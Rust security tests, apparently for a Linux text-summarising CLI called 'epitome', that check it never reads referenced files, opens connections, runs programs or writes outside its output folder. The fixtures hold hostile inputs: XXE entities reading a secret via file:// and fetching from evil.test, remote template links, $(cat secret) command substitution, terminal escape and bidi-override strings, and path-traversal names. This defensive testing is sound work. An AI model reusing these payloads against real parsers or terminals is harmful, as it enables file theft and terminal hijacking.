//! Hostile inputs: they must not reach the network, run programs, read other files, control a terminal, or
//! write outside of the output folder. SECURITY.md lists the threats.
#![cfg(target_os = "linux")]
#![allow(clippy::unwrap_used, reason = "a test may stop at what it cannot do")]

mod util;

use std::ffi::OsStr;
use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::PermissionsExt;
use std::os::unix::fs::symlink;
use std::path::Path;

use util::{Folder, command, shell, works_here};

/// Makes a zip archive with these files.
fn zip(files: &[(&str, &str)]) -> Vec<u8> {
    use std::io::Write;
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for (name, content) in files {
        zip.start_file(*name, zip::write::SimpleFileOptions::default()).unwrap();
        zip.write_all(content.as_bytes()).unwrap();
    }
    zip.finish().unwrap().into_inner()
}

/// Makes a folder of documents that refer to `secret.txt` outside of it, and to a host, in all ways in which
/// their formats can include other files.
fn tempting(name: &str) -> Folder {
    let folder = Folder::new(name);
    let secret = folder.file("secret.txt", "SECRET words that nobody may see.");
    let entities = format!(
        "<!DOCTYPE d [<!ENTITY x SYSTEM \"file://{secret}\"><!ENTITY % y SYSTEM \"http://evil.test/y\"> %y;]>"
    );
    let body = "<body><p><r><t>The ferry sails again. &x;</t></r></p></body>";
    let relations = "<Relationships><Relationship Id=\"r1\" Type=\"attachedTemplate\" \
        Target=\"http://evil.test/t.dotm\" TargetMode=\"External\"/></Relationships>";
    let odt = "<document-content><body><text><p>The ferry sails again. &x;</p>\
        <section><section-source href=\"../secret.txt\"/></section></text></body></document-content>";
    let container = "<container><rootfiles><rootfile full-path=\"a.opf\"/>\
        <rootfile full-path=\"../../secret.txt\"/></rootfiles></container>";
    let opf = "<package><manifest><item id=\"a\" href=\"../../secret.txt\" media-type=\"application/xhtml+xml\"/>\
        <item id=\"b\" href=\"http://evil.test/b.xhtml\" media-type=\"application/xhtml+xml\"/>\
        <item id=\"c\" href=\"c.xhtml\" media-type=\"application/xhtml+xml\"/></manifest>\
        <spine><itemref idref=\"a\"/><itemref idref=\"b\"/><itemref idref=\"c\"/></spine></package>";
    let page = format!(
        "{entities}<html><head><base href=\"http://evil.test/\"><link rel=stylesheet href=a.css>\
         <meta http-equiv=refresh content=\"0; url=http://evil.test\"><script src=a.js></script></head>\
         <body><iframe src=\"file://{secret}\"></iframe><img src=\"http://evil.test/a.png\">\
         <object data=\"{secret}\"></object><p>The ferry sails again. &x;</p></body></html>"
    );
    let mail = "From: a@evil.test\nTo: b@evil.test\nSubject: Tea\nMIME-Version: 1.0\n\
        Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain\n\n\
        The ferry sails again.\n--b\nContent-Type: message/external-body; access-type=local-file; \
        name=\"secret.txt\"\n\nContent-Type: text/plain\n\n--b--\n";
    folder.file("in/html.html", &page);
    folder.file(
        "in/docx.docx",
        zip(&[
            ("word/document.xml", &format!("{entities}<document>{body}</document>")),
            ("word/_rels/document.xml.rels", relations),
        ]),
    );
    folder.file("in/odt.odt", zip(&[("content.xml", &format!("{entities}{odt}"))]));
    folder.file(
        "in/epub.epub",
        zip(&[
            ("META-INF/container.xml", container),
            ("a.opf", opf),
            (
                "c.xhtml",
                &format!("{entities}<html><body><p>The ferry sails again.</p></body></html>"),
            ),
        ]),
    );
    folder.file("in/eml.eml", mail);
    folder.file("in/rst.rst", format!("The ferry sails again.\n\n.. include:: {secret}\n\n.. raw:: html\n   :url: http://evil.test\n"));
    folder.file("in/adoc.adoc", format!("The ferry sails again.\n\ninclude::{secret}[]\n"));
    folder.file("in/org.org", format!("The ferry sails again.\n\n#+INCLUDE: \"{secret}\"\n"));
    folder.file(
        "in/md.md",
        format!(
            "The ferry sails again. ![x](http://evil.test/x.png)\n\n<iframe src=\"{secret}\">\n"
        ),
    );
    folder.file(
        "in/txt.txt",
        format!("The ferry sails again. `cat {secret}` $(cat {secret}) file://{secret}\n"),
    );
    folder.file(
        "in/jsonl.jsonl",
        format!("{{\"text\": \"The ferry sails again.\", \"url\": \"file://{secret}\"}}\n"),
    );
    symlink("../secret.txt", folder.path().join("in/link.txt")).unwrap();
    symlink("..", folder.path().join("in/up")).unwrap();
    folder
}

/// The only sentence of each of those documents.
const SENTENCE: &str = "The ferry sails again.";

#[test]
fn no_file_that_a_document_refers_to_is_read() {
    let folder = tempting("security-read");
    let ran = folder.run(&["-n", "all", "in"], "");
    assert_eq!((ran.err.as_str(), ran.status), ("", 0));
    assert_eq!(ran.out.matches("==> in/").count(), 11, "{}", ran.out);
    assert_eq!(ran.out.matches(SENTENCE).count(), 11, "{}", ran.out);
    assert!(!ran.out.contains("SECRET"), "{}", ran.out);
    let ran = folder.run(&["-n", "all", "-L", "in"], "");
    assert!(ran.out.contains("==> in/link.txt <==\nSECRET"), "links are read only on request");
}

/// Runs the command without a network interface, and watches all system calls for networks and programs.
#[test]
fn no_connection_is_opened_and_no_program_is_run() {
    let folder = tempting("security-network");
    let args = ["-n", "all", "in", "--progress", "always", "-k", "--explain"];
    let expected = folder.run(&args, "");
    let line = format!("$epitome {}", args.join(" "));
    if works_here("unshare --net --map-root-user true") {
        let ran = folder.shell(&format!("exec unshare --net --map-root-user {line}"), "");
        assert_eq!((ran.out, ran.status), (expected.out.clone(), 0));
    }
    if works_here("strace -o /dev/null true") {
        let calls = "%network,execve,execveat,fork,vfork";
        for args in [line.clone(), format!("{line} --merge"), format!("{line} --output-dir out")] {
            let ran = folder.shell(&format!("strace -f -qq -o calls -e trace={calls} {args}"), "");
            assert_eq!(ran.status, 0, "{}", ran.err);
            let calls = folder.read("calls").unwrap();
            let calls: Vec<&str> = calls.lines().filter(|line| line.contains('(')).collect();
            assert!(calls.len() == 1 && calls[0].contains("execve("), "{calls:?}");
        }
        let files = format!("strace -f -qq -o files -e trace=%file {line}");
        assert_eq!(folder.shell(&files, "").status, 0);
        let files = folder.read("files").unwrap();
        assert!(files.contains("in/txt.txt"), "strace saw no files");
        assert!(!files.lines().any(|line| line.contains("open") && line.contains("secret.txt")));
    }
}

/// The pager of `--highlight`, which the user chooses, is the only program that is run.
#[test]
fn only_the_pager_is_run_on_a_terminal() {
    if !works_here("strace -o /dev/null script -qec true /dev/null") {
        return;
    }
    let folder = tempting("security-pager");
    let watched = "strace -f -qq -o calls -e trace=%network,execve,execveat,fork,vfork";
    let line = format!(
        "PAGER='/bin/cat -u' exec script -qec '{watched} $epitome --highlight in' /dev/null"
    );
    let ran = folder.shell(&line, "");
    assert_eq!((ran.out.matches(SENTENCE).count(), ran.status), (11, 0), "{}", ran.out);
    let calls = folder.read("calls").unwrap();
    // Each line begins with the number of the process.
    let calls = calls
        .lines()
        .filter_map(|line| line.trim_start_matches(|c: char| !c.is_alphabetic()).split_once('('));
    let (started, others): (Vec<_>, Vec<_>) = calls.partition(|(call, _)| *call == "execve");
    assert!(others.iter().all(|(call, _)| *call == "vfork"), "{others:?}");
    let programs: Vec<&str> =
        started.iter().filter_map(|(_, args)| args.split('"').nth(1)).collect();
    assert!(programs.len() == 2 && programs[1] == "/bin/cat", "{programs:?}");
}

// Terminals

/// Returns whether a character could control a terminal or override the reading direction.
fn is_unsafe(c: char) -> bool {
    (c.is_control() && c != '\n')
        || "\u{202a}\u{202b}\u{202c}\u{202d}\u{202e}\u{2066}\u{2067}\u{2068}\u{2069}".contains(c)
}

/// A string with all kinds of them, for texts and file names.
const EVIL: &str =
    "a\x1b[31mb\x1b]0;c\x07d\u{9b}31me\u{85}f\x7fg\u{202e}h\u{2067}i\u{2069}j\rk\x08l\tm\x0cn";

#[test]
fn no_output_controls_a_terminal() {
    let folder = Folder::new("security-terminal");
    let text = format!(
        "{EVIL} title\n\nThe {EVIL} ferry sails again {EVIL}. {EVIL} rains on {EVIL}, and {EVIL} snows. The {EVIL} sails.\n"
    );
    let record = serde_json::json!({"id": EVIL, "title": EVIL, "text": text});
    folder.file(&format!("in/0{EVIL}.txt"), &text);
    folder.file(&format!("in/1{EVIL}.md"), format!("# {text}"));
    folder.file(
        &format!("in/2{EVIL}.html"),
        format!("<title>{EVIL}</title><p>{text}&#27;[31m&#x9b;&#x202e;"),
    );
    folder.file(&format!("in/3{EVIL}.jsonl"), format!("{record}\n{{\"{EVIL}\": \n"));
    folder.file(&format!("in/4{EVIL}.docx"), "no archive");
    folder.file(&format!("in/5{EVIL}.png"), "no image");
    symlink(EVIL, folder.path().join(format!("in/{EVIL}"))).unwrap();
    let missing = format!("missing-{EVIL}");
    let base = ["in", &missing, "-v", "-n", "all", "-k", "-q", EVIL, "--title", EVIL];
    let formats: [&[&str]; 6] = [
        &[],
        &["--json"],
        &["--explain"],
        &["-f", "markdown", "--explain"],
        &["-f", "html"],
        &["--highlight", "--color", "never"],
    ];
    for format in formats {
        for more in [&[][..], &["--merge"], &["--output-dir", "out", "--force"]] {
            if format.contains(&"--highlight") && more.contains(&"--output-dir") {
                continue; // these two options contradict each other
            }
            let args = [&base[..], format, more].concat();
            let ran = folder.run(&args, "");
            assert_eq!(ran.status, 1, "{args:?}: {}", ran.err);
            assert!(!ran.out.contains(is_unsafe), "{args:?}: {:?}", ran.out);
            // Paths with right-to-left text would be isolated, but this text has none.
            assert!(!ran.err.contains(is_unsafe), "{args:?}: {:?}", ran.err);
            assert!(ran.err.lines().count() > 4, "{}", ran.err);
            for file in folder.files("out") {
                let content = folder.read(&format!("out/{file}")).unwrap();
                assert!(!content.contains(is_unsafe), "{args:?}: {content:?}");
            }
        }
    }
    let json = folder.run(&["in", "--json", "--input-format", "jsonl", "-n", "all"], "").out;
    let found: serde_json::Value =
        serde_json::from_str(json.lines().find(|line| line.starts_with("{\"id\"")).unwrap())
            .unwrap();
    assert_eq!(
        (&found["id"], found["title"].as_str().unwrap().contains('\u{202e}')),
        (&EVIL.into(), true)
    );
}

/// A shell may replace `*` by the name of a file, which may look like an option.
#[test]
fn messages_about_wrong_usage_do_not_control_a_terminal() {
    let options = [
        "--",
        "--language=",
        "--method=",
        "--stopwords=",
        "--encoding=",
        "-n",
        "-t",
        "--files-from=",
    ];
    for option in options {
        let arg = format!("{option}{EVIL}");
        let out = command(&[&arg]).output().unwrap();
        let message = String::from_utf8(out.stderr).unwrap();
        assert_eq!(out.status.code(), Some(2), "{option}: {message:?}");
        assert!(!message.is_empty() && !message.contains(is_unsafe), "{option}: {message:?}");
    }
    // On a terminal, where clap would use colours.
    if works_here("script -qec true /dev/null") {
        let folder = Folder::new("security-usage");
        folder.file("arg", format!("--{EVIL}"));
        let ran = folder.shell("exec script -qec '$epitome \"$(cat arg)\"' /dev/null", "");
        assert!(ran.out.contains("unexpected argument"), "{:?}", ran.out);
        assert!(!ran.out.replace("\r\n", "\n").contains(is_unsafe), "{:?}", ran.out);
    }
}

// The output folder

/// Returns all files in a folder except those in `out`.
fn outside(folder: &Folder) -> Vec<(String, Vec<u8>)> {
    let is_file = |name: &String| folder.path().join(name).is_file();
    let names = folder.files("").into_iter().filter(is_file);
    let names = names.filter(|name| !name.starts_with("out/"));
    names.map(|name| (name.clone(), std::fs::read(folder.path().join(name)).unwrap())).collect()
}

#[test]
fn whatever_the_names_of_inputs_no_file_is_written_outside_of_the_folder() {
    let folder = Folder::new("security-outside");
    let names = [
        "a.txt",
        "..b.txt",
        "...",
        "c..txt",
        "-n.txt",
        " .txt",
        "x/../d.txt",
        "~/e.txt",
        "f\\..\\g.txt",
        "h:i.txt",
        "\n.txt",
        "x/.hidden/k.txt",
        "CON.txt",
    ];
    folder.file("x/placeholder.txt", "Tea is hot.");
    for name in names {
        folder.file(&format!("in/{name}").replace("x/../", ""), "Tea is hot.");
    }
    folder.file("up/l.txt", "Tea is hot.");
    symlink("../up", folder.path().join("in/link")).unwrap();
    let before = outside(&folder);
    let absolute = folder.path().join("up/l.txt");
    let list = format!("in/../up/../up/l.txt\0{}\0./x/placeholder.txt\0", absolute.display());
    let runs: [(&[&str], &str); 4] = [
        (&["in", "--hidden", "--output-dir", "out"], ""),
        (&["in", "-L", "--hidden", "--output-dir", "out/2"], ""),
        (&["--files-from", "-", "-0", "--output-dir", "out/3", "--force"], &list),
        (&["in/../in", "--glob", "*", "--output-dir", "out/4/../5"], ""),
    ];
    for (args, input) in runs {
        let ran = folder.run(args, input);
        assert_eq!(ran.status, 0, "{args:?}: {}", ran.err);
        assert!(outside(&folder) == before, "{args:?}");
    }
    assert!(folder.files("out").len() > 20);
}

#[test]
fn existing_links_are_not_followed() {
    let folder = Folder::new("security-links");
    folder.file("in/a.txt", "Tea is hot.");
    folder.file("in/x/b.txt", "Tea is hot.");
    folder.file("precious.txt", "Precious.");
    std::fs::create_dir(folder.path().join("out")).unwrap();
    symlink("../precious.txt", folder.path().join("out/a.txt")).unwrap();
    symlink("..", folder.path().join("out/x")).unwrap();
    symlink("gone", folder.path().join("out/dangling")).unwrap();
    for force in [&[][..], &["--force"]] {
        let ran = folder.run(&[&["in", "--output-dir", "out"][..], force].concat(), "");
        assert!(
            ran.err.contains("epitome: out/x: is a link, so nothing is written there\n"),
            "{}",
            ran.err
        );
        assert_eq!(ran.status, 1);
        assert_eq!(folder.read("precious.txt").unwrap(), "Precious.");
        assert!(folder.read("b.txt").is_none());
    }
    assert_eq!(folder.read("out/a.txt").unwrap(), "Tea is hot.\n", "the file replaces the link");
    assert!(!folder.path().join("out/a.txt").is_symlink());
}

#[test]
fn files_have_the_permissions_of_the_umask() {
    let folder = Folder::new("security-modes");
    folder.file("in/x/a.txt", "Tea is hot.");
    let mode = |path: &Path| std::fs::metadata(path).unwrap().permissions().mode() & 0o7777;
    for (umask, file, dir) in [("022", 0o644, 0o755), ("077", 0o600, 0o700), ("007", 0o660, 0o770)]
    {
        for force in ["", "--force"] {
            let line = format!("umask {umask}; exec $epitome in --output-dir out-{umask} {force}");
            assert_eq!(folder.shell(&line, "").status, 0);
            let out = folder.path().join(format!("out-{umask}"));
            assert_eq!(mode(&out.join("x/a.txt")), file, "{umask} {force}");
            assert_eq!(mode(&out.join("x")), dir, "{umask}");
        }
    }
}

/// No other process can open an unfinished file, because it has no name.
#[test]
fn an_unfinished_file_has_no_name() {
    let folder = Folder::new("security-temporary");
    folder.file("in/a.txt", "Tea is hot.");
    if !works_here("strace -o /dev/null true") {
        return;
    }
    let calls =
        "strace -f -qq -o calls -e trace=open,openat,linkat,rename,renameat,renameat2,unlink";
    assert_eq!(folder.shell(&format!("{calls} $epitome in --output-dir out"), "").status, 0);
    let calls = folder.read("calls").unwrap();
    let is_written = |call: &&str| {
        call.contains("\"out") && (call.contains("O_WRONLY") || call.contains("O_RDWR"))
    };
    let written: Vec<&str> = calls.lines().filter(is_written).collect();
    let is_unnamed = written.iter().all(|call| call.contains("O_TMPFILE"));
    let is_hidden =
        written.iter().any(|call| call.contains("/.epitome-") && call.contains("O_EXCL"));
    assert!(!written.is_empty() && (is_unnamed || is_hidden), "{written:?}");
}

#[test]
fn a_file_name_that_is_not_utf_8_stays_the_same() {
    let folder = Folder::new("security-bytes");
    folder.file("in/x.txt", "Tea is hot.");
    let name = OsStr::from_bytes(b"in/\xff\xfe.txt");
    std::fs::write(folder.path().join(name), "Tea is hot.").unwrap();
    let ran = folder.run(&["in", "--output-dir", "out"], "");
    assert_eq!((ran.err.as_str(), ran.status), ("", 0));
    assert!(folder.path().join(OsStr::from_bytes(b"out/\xff\xfe.txt")).exists());
}

/// Locale, home folder, search path and debugging variables must make no difference.
#[test]
fn the_environment_does_not_change_the_output() {
    let plain = shell("exec $epitome --json", SENTENCE).out;
    let line = "LC_ALL=tr_TR.UTF-8 LANG=C HOME=/nonexistent PATH= TMPDIR=/nonexistent \
        RUST_BACKTRACE=1 CLICOLOR_FORCE=1 exec $epitome --json";
    assert_eq!(shell(line, SENTENCE).out, plain);
}
